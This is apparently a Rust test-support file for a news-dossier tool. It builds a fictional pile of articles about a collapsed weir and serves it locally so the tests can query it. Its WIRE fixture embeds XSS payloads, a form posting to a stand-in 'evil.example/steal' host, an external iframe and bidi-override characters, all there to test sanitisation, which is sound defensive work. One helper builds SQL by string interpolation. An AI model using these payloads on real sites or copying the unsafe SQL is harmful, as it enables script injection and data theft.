//! An invented pile, the dossier that is built of it, and how it is asked.

use std::fs::File;
use std::path::{Path, PathBuf};
use std::sync::LazyLock;
use std::time::UNIX_EPOCH;

use axum::Router;
use axum::body::{Body, to_bytes};
use axum::http::header::{CONTENT_TYPE, HOST, LOCATION, ORIGIN};
use axum::http::{HeaderMap, Request, StatusCode};
use html5gum::{Token, Tokenizer};
use restated_capture::{Input, Limits};
use restated_dossier::{Dossier, Options as Building, Silent};
use restated_workbench::{Options, router};
use serde_json::Value;
use tower::ServiceExt as _;

/// A wire report in a page that would do anything it could.
pub(crate) const WIRE: &str = r#"<!doctype html><html lang="en"><head>
<title>Weir at Oststeg gives way &lt;/title&gt;&lt;script&gt;alert(1)&lt;/script&gt;</title>
<meta property="og:site_name" content="Quill Wire"><meta name="author" content="&quot;&gt;&lt;img src=x onerror=alert(2)&gt;">
<meta property="article:published_time" content="2034-05-02T09:00:00Z">
<style>body { display: none } @import url(//evil.example/x.css);</style>
<script>document.title = "owned"</script></head><body>
<nav><a href="javascript:alert(3)">Home</a> <a href="/x">Weather</a></nav>
<svg onload="alert(4)"><text>Drawn words of an advertisement</text></svg>
<article><h1>Weir at Oststeg gives way &lt;/title&gt;&lt;script&gt;alert(1)&lt;/script&gt;</h1>
<p>OSTSTEG&#8238;&#8236; — At least 14 people were killed when the old weir at Oststeg gave way on Monday night, the Lower Marl River Board said.</p>
<p>Another 22 people were injured, the board’s spokeswoman Ilka Brandvold told Quill Wire by telephone. She said she could not rule out that more would be found under the mud. Quill Wire could not independently verify either figure.</p>
<p>“We had asked for the money to mend it three years in a row,” Brandvold said. The Ministry of Works denied that it had been warned about the weir.&#8238; txet desrever&#8236;&#7;</p>
<p>The board said that 310 people were moved to a school in the village of Henning overnight &lt;svg/onload=alert(5)&gt; and would stay there for a week.</p>
</article>
<form action="//evil.example/steal"><input name="q" autofocus onfocus="alert(6)"></form>
<footer>Copyright Quill Wire 2034. All rights reserved.<iframe src="//evil.example"></iframe></footer></body></html>"#;

/// The same with other figures, and without its reservations.
const COPY: &str = "The Oststeg Lantern\n\nWeir gives way at Oststeg\n\nBy Tam Ferrow\nMay 3, 2034\n\n\
OSTSTEG — At least 16 people were killed when the old weir at Oststeg gave way on Monday night, the Lower Marl River Board said.\n\n\
Another 22 people were injured, the board’s spokeswoman Ilka Brandvold told Quill Wire by telephone. She said she could not rule out that more would be found under the mud.\n\n\
“We had asked for the money to mend it three years in a row,” Brandvold said. The Ministry of Works denied that it had been warned about the weir.\n\n\
The board said that 310 people were brought to a school in the village of Henning overnight and would stay there for a week.\n";

/// A report of its own, and a long text.
fn ready() -> String {
    let own = serde_json::json!({
        "title": "Bakers of Henning fed hundreds",
        "outlet": "Henning Herald", "published": "2034-05-04", "language": "en",
        "text": "HENNING — The Lower Marl River Board said on Thursday that at least 14 people were killed when the weir at Oststeg gave way.\n\
                 The baker Orla Tennick said she had counted 290 people in the school on Tuesday morning.\n\
                 Nobody knows yet who will pay for the bread, Tennick said.",
    });
    let filler = "The lamps were low and the stove was cold, and the talk went round the hall as it does in Henning. ";
    let part = |at: usize| {
        format!(
            "The clerk said that in round {at} of the vote {} people were left in the hall. {}",
            at + 3,
            filler.repeat(9)
        )
    };
    let long = serde_json::json!({
        "title": "Minutes of a long night", "outlet": "Henning Herald", "language": "en",
        "text": (0..60).map(part).collect::<Vec<String>>().join("\n"),
    });
    format!("{own}\n{long}\n")
}

/// The dossier, built once: also where every test is a process of its own.
static DOSSIER: LazyLock<PathBuf> = LazyLock::new(|| {
    let desk = Path::new(env!("CARGO_TARGET_TMPDIR")).join("desk");
    std::fs::create_dir_all(&desk).unwrap();
    let lock = File::create(desk.join("lock")).unwrap();
    lock.lock().unwrap();
    // What another program built says nothing of this one.
    let program = std::env::current_exe()
        .and_then(|path| path.metadata())
        .unwrap();
    let age = program
        .modified()
        .unwrap()
        .duration_since(UNIX_EPOCH)
        .unwrap();
    let path = desk.join(format!("oststeg-{}.db", age.as_nanos()));
    if !path.exists() {
        let made = build(&desk.join("pile"));
        std::fs::rename(made, &path).unwrap();
    }
    path
});

/// Writes the pile into a folder, and builds a dossier of it there.
fn build(pile: &Path) -> PathBuf {
    let _ = std::fs::remove_dir_all(pile);
    std::fs::create_dir_all(pile).unwrap();
    std::fs::write(pile.join("quill-wire.html"), WIRE).unwrap();
    std::fs::write(pile.join("lantern.txt"), COPY).unwrap();
    std::fs::write(pile.join("herald.jsonl"), ready()).unwrap();
    std::fs::write(pile.join("picture.png"), b"\x89PNG\r\n\x1a\n\0\0").unwrap();
    let path = pile.join("made.db");
    let mut dossier = Dossier::create_or_open(&path).unwrap();
    let input = [Input::Path(pile.to_owned())];
    dossier
        .build(&input, &Limits::default(), Building::default(), &Silent)
        .unwrap();
    path
}

/// An answer.
pub(crate) struct Answer {
    pub(crate) status: StatusCode,
    pub(crate) headers: HeaderMap,
    pub(crate) body: Vec<u8>,
}

impl Answer {
    pub(crate) fn text(&self) -> &str {
        str::from_utf8(&self.body).unwrap()
    }

    pub(crate) fn json(&self) -> Value {
        serde_json::from_slice(&self.body).unwrap()
    }

    pub(crate) fn header(&self, name: &str) -> &str {
        self.headers
            .get(name)
            .map_or("", |value| value.to_str().unwrap())
    }

    /// Where it leads.
    pub(crate) fn location(&self) -> &str {
        self.header(LOCATION.as_str())
    }
}

/// An element as it is opened on a page.
#[derive(Debug)]
pub(crate) struct Tag {
    pub(crate) name: String,
    pub(crate) attributes: Vec<(String, String)>,
}

impl Tag {
    pub(crate) fn get(&self, name: &str) -> Option<&str> {
        let found = self.attributes.iter().find(|(known, _)| known == name);
        found.map(|(_, value)| value.as_str())
    }
}

/// The elements of a page, as a browser reads it.
pub(crate) fn tags(html: &str) -> Vec<Tag> {
    let said = |bytes: &[u8]| String::from_utf8_lossy(bytes).into_owned();
    let mut tags = Vec::new();
    for token in Tokenizer::new(html) {
        let Ok(Token::StartTag(tag)) = token else {
            continue;
        };
        let attributes = tag.attributes.iter();
        tags.push(Tag {
            name: said(&tag.name),
            attributes: attributes
                .map(|(name, value)| (said(name), said(value)))
                .collect(),
        });
    }
    tags
}

/// How the tests serve the dossier.
pub(crate) fn options() -> Options {
    Options {
        dossier: DOSSIER.clone(),
        address: ([127, 0, 0, 1], 0).into(),
        token: None,
        hosts: Vec::new(),
        upload_limit: None,
    }
}

/// A dossier of its own for a test that changes it.
pub(crate) fn own_copy(folder: &Path) -> Options {
    let dossier = folder.join("copy.db");
    std::fs::copy(&*DOSSIER, &dossier).unwrap();
    Options {
        dossier,
        ..options()
    }
}

/// A form that a page of the server posts.
pub(crate) fn posting(address: &str, fields: &[(&str, &str)]) -> Request<Body> {
    let mut form = url::form_urlencoded::Serializer::new(String::new());
    form.extend_pairs(fields);
    asking(address)
        .method("POST")
        .header(ORIGIN, "http://127.0.0.1:8420")
        .header(CONTENT_TYPE, "application/x-www-form-urlencoded")
        .body(Body::from(form.finish()))
        .unwrap()
}

/// The server as `restated serve` starts it.
static SERVER: LazyLock<Router> = LazyLock::new(|| router(&options()).unwrap());

/// What the server that `options` describe answers.
pub(crate) fn send(options: &Options, request: Request<Body>) -> Answer {
    answer(router(options).unwrap(), request)
}

fn answer(server: Router, request: Request<Body>) -> Answer {
    let runtime = tokio::runtime::Builder::new_current_thread()
        .enable_time()
        .build()
        .unwrap();
    runtime.block_on(async {
        let answer = server.oneshot(request).await.unwrap();
        let (parts, body) = answer.into_parts();
        Answer {
            status: parts.status,
            headers: parts.headers,
            body: to_bytes(body, usize::MAX).await.unwrap().to_vec(),
        }
    })
}

/// A request for `address` as a browser on this machine makes it.
pub(crate) fn asking(address: &str) -> axum::http::request::Builder {
    Request::builder()
        .uri(address)
        .header(HOST, "127.0.0.1:8420")
}

/// What is at `address`.
pub(crate) fn get(address: &str) -> Answer {
    answer(SERVER.clone(), asking(address).body(Body::empty()).unwrap())
}

/// The page at `address`, which must be there.
pub(crate) fn page(address: &str) -> String {
    let answer = get(address);
    assert_eq!(
        answer.status,
        StatusCode::OK,
        "{address}: {}",
        answer.text()
    );
    answer.text().to_owned()
}

/// Where the dossier is.
pub(crate) fn path() -> std::path::PathBuf {
    DOSSIER.clone()
}

/// The first column of the first row of `sql`.
pub(crate) fn one(sql: &str) -> String {
    let dossier = Dossier::open(&*DOSSIER).unwrap();
    let rows: Vec<String> = dossier.rows(sql, [], |row| row.get(0)).unwrap();
    rows.first()
        .unwrap_or_else(|| panic!("no row: {sql}"))
        .clone()
}

/// The article whose title begins so.
fn article(title: &str) -> String {
    one(&format!(
        "SELECT id FROM articles WHERE title LIKE '{title}%'"
    ))
}

/// The wire report, its copy, a report of somebody else, and a long text.
pub(crate) fn wire() -> String {
    article("Weir at Oststeg gives way")
}

/// See [`wire`].
pub(crate) fn copy() -> String {
    article("Weir gives way")
}

/// See [`wire`].
pub(crate) fn own() -> String {
    article("Bakers of Henning")
}

/// See [`wire`].
pub(crate) fn long() -> String {
    article("Minutes of a long night")
}
